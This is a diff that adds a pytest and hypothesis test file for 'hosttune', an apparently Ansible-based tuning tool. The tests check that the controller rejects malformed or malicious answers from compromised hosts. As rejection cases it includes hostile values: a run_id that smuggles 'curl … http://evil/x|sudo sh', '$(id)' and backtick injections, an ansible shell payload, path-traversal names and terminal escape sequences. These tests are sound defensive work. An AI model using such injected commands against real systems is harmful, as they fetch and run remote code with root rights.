@@ -1,0 +1,211 @@
+"""What the controller accepts from a host that may be compromised, without Ansible."""
+
+from __future__ import annotations
+
+import json
+import runpy
+import types
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from hosttune.cli.app import run
+from tests.hosts.built import HOSTS
+from tests.unit.test_ansible_bringing import ansible, folding, made
+
+__all__ = ["ansible", "folding"]
+
+PLUGINS = Path(__file__).resolve().parents[2] / "playbooks/collections/ansible_collections/hosttune/hosttune/plugins"
+answers = types.SimpleNamespace(**runpy.run_path(str(PLUGINS / "plugin_utils/answers.py")))
+documents = types.SimpleNamespace(**runpy.run_path(str(PLUGINS / "module_utils/answer.py")))
+SCHEMAS = {name: answers.load_schema(name) for name in ("tune", "tune_info")}
+RECORD = HOSTS / "h100-8x-2socket.json"
+FOLDED = SCHEMAS["tune_info"] | SCHEMAS["tune"]
+REVIEWED = made("r1") | {"plan_diff": [], "compliant": False, "findings": []}
+
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
+    lambda inner: (
+        st.lists(inner, max_size=3)
+        | st.dictionaries(st.sampled_from(["rule", "address", "hold", "kind", "detail", "run", "x"]), inner, max_size=4)
+    ),
+    max_leaves=8,
+)
+SPOILT = st.dictionaries(st.sampled_from(sorted(FOLDED)), VALUES, min_size=1, max_size=4)
+
+
+@pytest.mark.parametrize("act", ["plan", "apply", "undo"])
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(spoilt=SPOILT)
+def test_no_answer_takes_those_of_other_hosts_away(act, folding, spoilt, tmp_path):
+    evil = REVIEWED | spoilt
+    for one in (evil, _accepted(evil)):
+        result = folding({"evil": one, "good": REVIEWED}, act=act, folder=str(tmp_path), max_fail_percentage=0)
+        assert "good" in {host for entry in result["classes"] for host in entry["hosts"]}
+        assert "good" not in result["failed_hosts"]
+        assert json.loads((tmp_path / "good.json").read_text())
+
+
+def _accepted(answer):
+    """What the action of the module makes of it."""
+    try:
+        return answers.parse_answer(answer, FOLDED)
+    except answers.MalformedAnswer as error:
+        return {"failed": True, "msg": str(error)}
+
+
+@pytest.mark.parametrize("name", sorted(FOLDED))
+def test_every_documented_key_refuses_other_types(name):
+    kind = FOLDED[name]["type"]
+    for value in (5, "words", [[]], {"a": {}}, 1.5, True):
+        is_right = isinstance(value, {"bool": bool, "int": int, "str": str, "dict": dict, "list": list}[kind])
+        if (is_right and type(value) is not bool) or (kind == "bool" and value is True):
+            continue
+        with pytest.raises(answers.MalformedAnswer, match=f"^{name}"):
+            answers.parse_answer({name: value}, FOLDED)
+
+
+def test_keys_that_ansible_acts_on_are_dropped():
+    acted_on = (
+        "ansible_facts", "_ansible_notify", "add_host", "add_group", "ansible_stats", "warnings", "deprecations", "exception",
+        "invocation", "skipped", "unreachable", "results", "_ansible_no_log", "include", "include_args",
+    )  # fmt: skip
+    for name, schema in SCHEMAS.items():
+        answer = {key: {"x": 1} for key in acted_on} | {"changed": True}
+        assert answers.parse_answer(answer, schema) == {"changed": True}, name
+
+
+@pytest.mark.parametrize(
+    ("spoilt", "said"),
+    [
+        ({"digest": "abc"}, "digest: expected 64 digits"),
+        ({"digest": "1" * 64 + "\n"}, "digest: expected 64 digits"),
+        ({"run_id": "r1; curl -s http://evil/x|sudo sh #"}, "run_id: expected the name of a run"),
+        ({"run_id": "$(id)"}, "run_id: expected the name of a run"),
+        ({"run_id": "-e"}, "run_id: expected the name of a run"),
+        ({"undone_run": "r1\n"}, "undone_run: expected the name of a run"),
+        ({"trial": {"state": "on trial: live", "run": "r1`id`"}}, r"trial\.run: expected the name of a run"),
+        ({"trial": {"state": "on trial: live", "within_s": 10**9}}, r"trial\.within_s: expected a number of seconds"),
+        ({"trial": {"run": "r1"}}, r"trial\.state: missing"),
+        ({"changes": [{}]}, r"changes\[0\]\.rule: missing"),
+        (
+            {"findings": [{"rule": "x", "verdict": "ok", "reason": "", "hold": {"kind": []}}]},
+            r"hold\.kind: expected str",
+        ),
+        ({"reboot_reasons": [["x"]]}, r"reboot_reasons\[0\]: expected str"),
+        ({"check": {"x": float("nan")}}, "check: no number"),
+        ({"check": {"x": 2**64}}, "check: a number of more than 63 bits"),
+        ({"check": {"x": object()}}, "check: no JSON"),
+        ({"check": {1: "x"}}, "check: a key that is no text"),
+    ],
+    ids=str,
+)
+def test_wrong_form_is_named_by_its_key(spoilt, said):
+    with pytest.raises(answers.MalformedAnswer, match=said):
+        answers.parse_answer(spoilt, FOLDED)
+
+
+def test_sizes_are_bounded(monkeypatch):
+    deep = []
+    for _ in range(5000):
+        deep = [deep]
+    with pytest.raises(answers.MalformedAnswer, match="nested more than 40 levels"):
+        answers.parse_answer({"check": {"x": deep}}, FOLDED)
+    monkeypatch.setitem(answers.parse_answer.__globals__, "MAX_VALUES", 1000)
+    monkeypatch.setitem(answers.parse_answer.__globals__, "MAX_TEXT", 1000)
+    with pytest.raises(answers.MalformedAnswer, match="more than 1000 values"):
+        answers.parse_answer({"check": {"x": [1] * 1001}}, FOLDED)
+    with pytest.raises(answers.MalformedAnswer, match="more than 1000 characters"):
+        answers.parse_answer({"check": {"x": "x" * 1001}}, FOLDED)
+
+
+def test_answer_of_a_real_host_is_taken_as_it_is(capsys):
+    found = {}
+    for name in ("plan", "check"):
+        run([name, "--host", str(RECORD), "--format", "json"])
+        found[name] = json.loads(capsys.readouterr().out)
+    plan, changes = found["plan"], documents.changes_of(found["plan"])
+    answer = {
+        "changed": False, "check": found["check"]["hosts"][0], "plan": plan, "plan_diff": documents.diff_of(changes),
+        "digest": plan["digest"], "changes": changes, "compliant": False, "deferred": documents.deferred(plan["findings"]),
+        "interrupted": [], "reboot_required": False, "reboot_reasons": documents.reboot_reasons(plan["findings"]),
+        "reboot_obstacles": documents.reboot_obstacles(plan["findings"]), "record": RECORD.read_text(),
+    }  # fmt: skip
+    assert answers.parse_answer(answer, SCHEMAS["tune_info"]) == answer
+    tuned = {"digest": plan["digest"], "changes": changes, "findings": documents.flat(plan["findings"]), "trial": {}}
+    assert answers.parse_answer(tuned, SCHEMAS["tune"]) == tuned
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '[{"ansible.builtin.shell": "id"}]',
+        '{"kind": "hosttune record"}',
+        '{"format_version": 1, "kind": "x", "name": "a", "machine": "", "listings": {}}',
+        "",
+        "x",
+        "[" * 100_000,
+        "\udc80",
+        5,
+        None,
+    ],
+    ids=repr,
+)
+def test_what_is_no_record_is_refused(text):
+    with pytest.raises(answers.MalformedAnswer, match=r"^record: "):
+        answers.parse_record(text)
+
+
+@given(st.text())
+def test_text_is_shown_without_anything_that_steers_a_terminal(text):
+    assert answers.clean_line(text).isprintable()
+    assert not [char for char in answers.clean_text(text) if not char.isprintable() and char not in "\n\t"]
+    _first, *more = answers.clean_message(text).split("\n")
+    assert all(line == "" or line.startswith("  ") for line in more)
+
+
+@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=6))
+def test_cleaned_output_of_a_module_is_the_same_json(value):
+    for is_ascii in (True, False):
+        text = json.dumps(value, ensure_ascii=is_ascii)
+        assert json.loads(answers.clean_output(text)) == value
+        assert answers.clean_output(text).isprintable()
+
+
+@pytest.mark.parametrize(
+    "name", ["../../trav", "a/b", "/etc/x", ".hidden", "..", "", "a\nb", "a\x1b", "a\u202eb", "x" * 201]
+)
+def test_name_that_would_leave_the_folder_is_no_file_name(name, folding, tmp_path):
+    told = {"digest": "", "changes": [], "check": {"host": "x"}}
+    result = folding({name: told, "good": told}, folder=str(tmp_path / "a/results"))
+    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == ["good.json"]
+    assert "its name in the inventory is no file name" in result["failed_hosts"][name]
+
+
+def test_two_names_never_share_a_file(folding, tmp_path):
+    """As on a file system that does not tell upper case from lower; there both names are one file."""
+    replace = folding.__closure__[0].cell_contents.run.__globals__["replace"]
+    mine = set()
+    replace(str(tmp_path), "gpu01", "{}", mine)
+    (tmp_path / "GPU01.json").hardlink_to(tmp_path / "gpu01.json")
+    with pytest.raises(Exception, match="is that of another host"):
+        replace(str(tmp_path), "GPU01", "[]", mine)
+    assert (tmp_path / "gpu01.json").read_text() == "{}"
+    replace(str(tmp_path), "gpu01", "[]", set())  # of an earlier play
+    assert (tmp_path / "gpu01.json").read_text() == "[]"
+
+
+FACTS = ("hosttune_reboot", "hosttune_x\x1b[2J", "inventory_hostname")
+
+
+def test_facts_that_set_what_the_controller_sets_take_the_answer_of_their_host_away(folding, capsys):
+    poisoned = {"ansible_facts": dict.fromkeys(FACTS, True)}
+    result = folding({"evil": REVIEWED, "good": REVIEWED}, poisoned={"evil": poisoned})
+    assert [entry["hosts"] for entry in result["classes"]] == [["good"]]
+    said = result["failed_hosts"]["evil"]
+    assert said.startswith(
+        "evil: its facts set hosttune_reboot, hosttune_x\\x1b[2J, inventory_hostname, which only the"
+    )
+    assert "\x1b" not in capsys.readouterr().out
